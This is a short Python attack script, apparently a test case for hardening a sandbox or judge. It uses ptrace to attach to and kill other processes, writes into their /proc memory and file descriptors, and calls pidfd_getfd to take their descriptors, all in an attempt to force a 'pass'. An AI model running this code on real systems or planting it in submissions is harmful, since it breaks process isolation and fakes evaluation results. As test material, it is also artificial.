# attack: attaches to every other process and writes a pass into its registers
# shape: action
# causes: WRONG_ANSWER, SIGNALED, EXITED_EARLY
import ctypes
import os

ATTACH, SEIZE, CONT, TRACEME, KILL, GETREGS = 16, 0x4206, 7, 0, 8, 12


def attack() -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in range(1, 32):
        if pid == os.getpid():
            continue
        for request in (ATTACH, SEIZE, GETREGS, KILL):
            libc.ptrace(request, pid, None, None)
        for name in ("mem", "fd/1", "fd/0", "fd/16", "fd/17"):
            try:
                fd = os.open(f"/proc/{pid}/{name}", os.O_WRONLY | os.O_NONBLOCK)
                os.write(fd, b"\0\0\0\0d")
                os.close(fd)
            except OSError:
                pass
    # pidfd_getfd, which takes descriptors out of other processes, and kcmp, which compares them.
    for pidfd in range(3, 16):
        for number in range(24):
            libc.syscall(438, pidfd, number, 0)
    libc.syscall(312, 1, os.getpid(), 0, 0, 0)
